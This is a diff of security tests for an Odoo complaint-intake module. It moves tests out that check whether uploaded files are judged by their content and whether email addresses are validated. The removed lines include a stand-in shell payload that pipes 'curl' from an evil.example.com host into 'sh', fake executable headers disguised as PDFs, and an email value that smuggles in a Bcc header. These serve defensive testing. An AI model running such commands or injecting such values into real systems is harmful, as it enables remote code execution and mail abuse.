@@ -8,22 +8,21 @@ the public quota is apart from the portal's; the rate limit is atomic.
 16: one valid, normalised address per complaint on every channel; nothing
 is mailed to an invalid one.
 17: files are judged by their content, on every route a complainant uses.
+(17 on the forms: test_intake_security_uploads.py; 16 and 17 on the email
+alias: test_intake_security_alias.py.)
 """
 
-import base64
 import hashlib
-import io
 import re
 import threading
 import time
-import zipfile
 from datetime import timedelta
 from unittest.mock import patch
 
 from psycopg2.errors import SerializationFailure
 
 from odoo import SUPERUSER_ID, api, fields
-from odoo.exceptions import UserError, ValidationError
+from odoo.exceptions import UserError
 from odoo.sql_db import db_connect
 from odoo.tests import TransactionCase, tagged
 
@@ -31,32 +30,15 @@ from odoo.addons.iso10002_complaints.tests.common import run_pending_jobs
 from odoo.addons.iso10002_complaints.tests.rpc_common import JsonRpcMixin
 from odoo.addons.iso10002_complaints.tests.test_intake_common import (
     CSRF_RE,
-    PDF_BYTES,
-    PNG_BYTES,
     IntakeHttpCommon,
-)
-from odoo.addons.iso10002_complaints.tests.test_intake_email import (
-    INCOMING,
-    MailIntakeCase,
 )
 
 CONFIRM_LINK_RE = re.compile(r'href="[^"]*(/complaints/confirm/([\w-]+))"')
-ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
-PE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00PE\x00\x00"
-SHELL_BYTES = b"#!/bin/sh\ncurl -s http://evil.example.com/x | sh\n"
 BAD_EMAILS = (
     "victim@x.com\r\nBcc: all@x.com",
     "a@b",
     "x" * 290 + "@example.com",
 )
-
-
-def _docx_bytes(folder="word/"):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr(f"{folder}document.xml", "<document/>")
-    return buffer.getvalue()
 
 
 @tagged("post_install", "-at_install")
@@ -281,200 +263,6 @@ class TestIntakeSecurityForms(JsonRpcMixin, IntakeHttpCommon):
         )
         with self.assertRaisesRegex(UserError, "no email address to acknowledge"):
             complaint.action_send_acknowledgement()
-
-    # ------------------------------------------------------------------
-    # Finding 17
-    # ------------------------------------------------------------------
-    def _assert_refused(self, response, name):
-        self.assertEqual(response.status_code, 400, name)
-        self.assertIn(name, response.text)
-        self.assertFalse(self.env["ir.attachment"].search([("name", "=", name)]))
-
-    def test_finding_17_programs_renamed_pdf_refused_on_public_form(self):
-        for index, content in enumerate((ELF_BYTES, PE_BYTES, SHELL_BYTES)):
-            name = f"invoice{index}.pdf"
-            response = self._post_public(
-                files=[("attachments", (name, content, "application/pdf"))]
-            )
-            self._assert_refused(response, name)
-        # not what the name says, though harmless: refused too
-        for name, content in (
-            ("photo.png", PDF_BYTES),
-            ("letter.docx", _docx_bytes("xl/")),
-            ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
-        ):
-            response = self._post_public(
-                files=[("attachments", (name, content, "application/octet-stream"))]
-            )
-            self._assert_refused(response, name)
-            self.assertIn("is not a real", response.text)
-        self.assertFalse(self._complaints(name="Broken kettle"))
-
-    def test_finding_17_real_files_accepted(self):
-        response = self._post_public(
-            files=[
-                ("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf")),
-                ("attachments", ("photo.png", PNG_BYTES, "image/png")),
-                ("attachments", ("letter.docx", _docx_bytes(), "application/zip")),
-            ]
-        )
-        self.assertEqual(response.status_code, 303, response.text[:1000])
-        attachments = self._complaints(name="Broken kettle").message_ids.attachment_ids
-        self.assertEqual(
-            sorted(attachments.mapped("name")),
-            ["letter.docx", "photo.png", "receipt.pdf"],
-        )
-        self.assertEqual(
-            attachments.filtered(lambda a: a.name == "receipt.pdf").mimetype,
-            "application/pdf",
-        )
-
-    def test_finding_17_portal_form_and_messages(self):
-        self._login(self.portal_user)
-        response = self._post_portal(
-            files=[("attachments", ("scan.pdf", ELF_BYTES, "application/pdf"))]
-        )
-        self._assert_refused(response, "scan.pdf")
-        complaint = self._new_complaint(self.portal_user.partner_id)
-        page = self.url_open(f"/my/complaint/{complaint.id}")
-        csrf = CSRF_RE.search(page.text).group(1)
-        response = self.url_open(
-            f"/my/complaint/{complaint.id}/message",
-            data={"csrf_token": csrf, "note": "My receipt"},
-            files=[("attachments", ("receipt.pdf", ELF_BYTES, "application/pdf"))],
-            allow_redirects=False,
-        )
-        self._assert_refused(response, "receipt.pdf")
-        response = self.url_open(
-            f"/my/complaint/{complaint.id}/message",
-            data={"csrf_token": csrf, "note": "My receipt"},
-            files=[("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf"))],
-            allow_redirects=False,
-        )
-        self.assertEqual(response.status_code, 303)
-        self.assertEqual(
-            complaint.message_ids[0].attachment_ids.mapped("name"), ["receipt.pdf"]
-        )
-
-    def test_finding_17_chatter_upload_route(self):
-        complaint = self._new_complaint(self.portal_user.partner_id)
-        self._login(self.portal_user)
-        page = self.url_open(f"/my/complaint/{complaint.id}")
-        csrf = CSRF_RE.search(page.text).group(1)
-
-        def upload(name, content, **extra):
-            return self.url_open(
-                "/mail/attachment/upload",
-                data={
-                    "csrf_token": csrf,
-                    "thread_id": str(complaint.id),
-                    "thread_model": "helpdesk.ticket",
-                    "token": complaint.access_token,
-                    **extra,
-                },
-                files={"ufile": (name, content, "application/pdf")},
-            )
-
-        attachments = self.env["ir.attachment"]
-        response = upload("tool.pdf", ELF_BYTES)
-        self.assertNotEqual(response.status_code, 200)
-        self.assertFalse(attachments.search([("name", "=", "tool.pdf")]))
-        # pending upload, attached when the message is posted
-        response = upload("script.pdf", SHELL_BYTES, is_pending="true")
-        self.assertEqual(response.status_code, 200, response.text[:500])
-        attachment = attachments.browse(response.json()["data"]["attachment_id"])
-        self.assertEqual(attachment.res_model, "mail.compose.message")
-        with self.assertRaisesRegex(ValidationError, "script.pdf"):
-            # as mail's _process_attachments_for_post does when it is posted
-            attachment.with_user(self.portal_user).sudo().write(
-                {"res_model": "helpdesk.ticket", "res_id": complaint.id}
-            )
-        response = upload("real.pdf", PDF_BYTES)
-        self.assertEqual(response.status_code, 200, response.text[:500])
-        attachment = attachments.search([("name", "=", "real.pdf")])
-        self.assertEqual(attachment.res_id, complaint.id)
-        self.assertEqual(attachment.mimetype, "application/pdf")
-
-
-@tagged("post_install", "-at_install")
-class TestIntakeSecurityAlias(MailIntakeCase):
-    alias_domain_name = "iso-security.example.com"
-    alias_name = "iso-security-test"
-    team_name = "Complaints by mail (security)"
-    leader_values = {
-        "login": "iso_security_leader",
-        "email": "leader.security@example.com",
-    }
-
-    def _process(self, sender, sender_email, uid="1"):
-        message = INCOMING.format(
-            sender=sender,
-            sender_email=sender_email,
-            to=self.to,
-            subject="Flooded kitchen",
-            message_id=f"<security-{uid}@customer.example.com>",
-            extra="",
-            uid=uid,
-        )
-        with self.mock_mail_gateway():
-            ticket_id = self.env["mail.thread"].sudo().message_process(None, message)
-        return self.env["helpdesk.ticket"].browse(ticket_id)
-
-    def test_finding_16_alias_email_from_a_bad_sender(self):
-        partners_before = self.env["res.partner"].search_count([])
-        complaint = self._process('"Dodgy" <dodgy@localhost>', "dodgy@localhost")
-        # the complaint is never lost, but nothing goes to that address
-        self.assertTrue(complaint.is_complaint)
-        self.assertFalse(complaint.partner_email)
-        self.assertFalse(complaint.partner_id)
-        self.assertEqual(self.env["res.partner"].search_count([]), partners_before)
-        self.assertFalse(complaint.ack_date)
-        self.assertFalse(
-            self.env["mail.mail"].search([("email_to", "ilike", "dodgy@localhost")])
-        )
-        # a good sender is kept as one normalised address
-        complaint = self._process(
-            '"Walter White" <Walter.White@Customer.Example.com>',
-            "walter.white@customer.example.com",
-            uid="2",
-        )
-        self.assertEqual(complaint.partner_email, "walter.white@customer.example.com")
-        self.assertEqual(
-            complaint.partner_id.email, "walter.white@customer.example.com"
-        )
-
-    def test_finding_17_alias_email_with_a_program_renamed_pdf(self):
-        program = base64.b64encode(ELF_BYTES).decode()
-        message = INCOMING.format(
-            sender='"Walter White" <walter.white@customer.example.com>',
-            sender_email="walter.white@customer.example.com",
-            to=self.to,
-            subject="Flooded kitchen",
-            message_id="<security-3@customer.example.com>",
-            extra="",
-            uid="3",
-        ).replace(
-            "--==BOUNDARY==--",
-            "--==BOUNDARY==\n"
-            'Content-Type: application/pdf; name="invoice.pdf"\n'
-            'Content-Disposition: attachment; filename="invoice.pdf"\n'
-            "Content-Transfer-Encoding: base64\n\n"
-            f"{program}\n\n--==BOUNDARY==--",
-        )
-        with self.mock_mail_gateway():
-            ticket_id = self.env["mail.thread"].sudo().message_process(None, message)
-        complaint = self.env["helpdesk.ticket"].browse(ticket_id)
-        self.assertEqual(
-            complaint.message_ids.attachment_ids.mapped("name"), ["delivery-note.pdf"]
-        )
-        self.assertFalse(
-            self.env["ir.attachment"].search([("name", "=", "invoice.pdf")])
-        )
-        note = complaint.message_ids.filtered(
-            lambda m: "Files of the email left out" in str(m.body)
-        )
-        self.assertIn("invoice.pdf", str(note.body))
-        self.assertTrue(note.is_internal or note.subtype_id.internal)
 
 
 @tagged("post_install", "-at_install")
